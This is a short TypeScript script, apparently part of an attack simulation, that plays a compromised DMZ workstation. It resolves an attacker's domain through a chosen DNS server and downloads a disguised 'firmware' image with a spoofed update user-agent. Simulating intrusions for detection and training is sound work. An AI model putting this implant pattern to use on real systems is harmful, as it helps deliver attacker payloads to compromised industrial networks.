/** The compromised DMZ workstation: resolves the attacker's name and downloads the image. Usage: implant.ts */
import { Resolver } from "node:dns/promises";
import { request } from "node:http";

const NAME = "update.turbine-fw.example";
const resolver = new Resolver();
resolver.setServers(["198.51.100.53"]);
const [host] = await resolver.resolve4(NAME);

await new Promise<void>((done, fail) => {
  const headers = { host: NAME, "user-agent": "fw-update/1.1" };
  request({ host, path: "/fw/turbine-4.2.bin", agent: false, headers }, (response) =>
    response.resume().on("end", () => done()),
  )
    .on("error", fail)
    .end();
});
